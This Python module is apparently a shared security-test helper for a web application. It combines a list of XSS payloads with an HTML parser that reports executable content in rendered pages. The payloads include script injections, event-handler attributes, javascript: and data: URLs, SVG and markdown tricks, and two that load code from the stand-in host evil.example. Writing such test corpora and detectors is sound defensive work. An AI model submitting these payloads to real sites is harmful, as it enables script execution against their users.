"""Shared XSS material for tests: a payload corpus and a checker for executable HTML.

Any app's tests can run the corpus through the fields people or editors fill in and assert that the
rendered page has nothing executable::

    from tests.security.xss import XSS_PAYLOADS, executable_parts

    @pytest.mark.parametrize("payload", XSS_PAYLOADS)
    def test_listing_fields(client, payload):
        listing = ListingFactory(practice_name=payload, ...)
        assert executable_parts(client.get(listing.get_absolute_url()).content.decode()) == []
"""

from html.parser import HTMLParser

XSS_PAYLOADS = [
    # script elements, plain and disguised
    "<script>alert('xss-1')</script>",
    "<ScRiPt>alert('xss-2')</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    '"><script>alert("xss-3")</script>',
    "'><script>alert('xss-4')</script><'",
    "</textarea><script>alert('xss-5')</script>",
    "</title><script>alert('xss-6')</script>",
    "<scr<script>ipt>alert('xss-7')</scr</script>ipt>",
    "<!--<script>alert('xss-8')</script>-->",
    # event handlers
    "<img src=x onerror=alert('xss-9')>",
    '<img src="x" onerror="alert(\'xss-10\')">',
    "<body onload=alert('xss-11')>",
    "<div onmouseover=\"alert('xss-12')\">hover</div>",
    "<a href=# onclick=alert('xss-13')>click</a>",
    '" onfocus="alert(\'xss-14\')" autofocus="',
    "' onmouseover='alert(1)' x='",
    "<details open ontoggle=alert('xss-15')>",
    "<input autofocus onfocus=alert('xss-16')>",
    # javascript:, data: and vbscript: URLs
    "<a href=\"javascript:alert('xss-17')\">x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    # SVG and MathML
    "<svg onload=alert('xss-18')>",
    "<svg><script>alert('xss-19')</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert("xss-20")>',
    # CSS
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # markdown link and image tricks
    "[click](javascript:alert('xss-21'))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[click](https://example.org "title\\" onmouseover=\\"alert(1))',
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    "[ref]: javascript:alert(1)\n\n[link][ref]",
    "<javascript:alert(1)>",
    "`<script>alert('in code')</script>`",
    "```\n<script>alert('in fence')</script>\n```",
    # template and encoding tricks
    "{{ 7|add:7 }}{% csrf_token %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<<script>script>alert(1)<</script>/script>",
]

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background", "poster", "srcset"}
_FORBIDDEN_TAGS = {"iframe", "object", "embed", "frame", "frameset", "applet", "base"}
_DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
# Script elements browsers never execute (JSON-LD); a payload breaking out of one shows up as a new <script>.
_DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}
_LOADING_RELS = {"stylesheet", "preload", "modulepreload", "import", "prefetch"}


def _scheme(value):
    # Browsers skip spaces and control characters around and inside a URL's scheme.
    return "".join(ch for ch in value if ch > " ").lower()


class _ExecutableFinder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def _check(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script":
            src = attributes.get("src") or ""
            data_block = (attributes.get("type") or "").lower() in _DATA_SCRIPT_TYPES and not src
            if not data_block and not (src.startswith("/") and not src.startswith("//")):
                self.problems.append(f"<script> not from this site: {attrs}")
        if tag == "style":
            self.problems.append("<style> element")
        rel = set((attributes.get("rel") or "").lower().split())
        href = attributes.get("href") or ""
        if tag == "link" and rel & _LOADING_RELS and (href.startswith("//") or ":" in href.split("/")[0]):
            self.problems.append(f"<link> loading code from another site: {attrs}")
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> element")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if name == "style":
                self.problems.append(f"style= on <{tag}>")
            if name in _URL_ATTRIBUTES and value and _scheme(value).startswith(_DANGEROUS_SCHEMES):
                self.problems.append(f"{name}={value!r} on <{tag}>")


def executable_parts(html: str) -> list[str]:
    """Return a description of everything in ``html`` that could run code or load foreign code; [] if none."""
    finder = _ExecutableFinder()
    finder.feed(html)
    finder.close()
    return finder.problems
